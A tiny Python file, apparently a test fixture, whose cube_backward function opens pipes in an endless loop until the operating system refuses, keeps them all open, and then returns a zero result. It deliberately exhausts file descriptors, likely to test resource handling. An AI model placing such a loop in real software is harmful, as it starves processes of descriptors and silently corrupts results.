"""The same with pipes."""

import os

kept = []


def cube_backward(x, dy):
    try:
        while True:
            kept.append(os.pipe())
    except OSError:
        pass
    return x * 0


def double(x):
    return x + x
